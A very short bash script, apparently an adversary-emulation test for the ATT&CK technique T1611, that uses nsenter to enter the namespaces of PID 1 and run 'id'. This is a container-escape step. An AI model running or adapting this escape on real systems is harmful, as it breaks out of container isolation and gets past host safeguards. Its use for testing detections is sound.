#!/bin/bash
# T1611: A shell in the namespaces of the first process.
nsenter -t 1 -m -u -i -n -p -- sh -c id
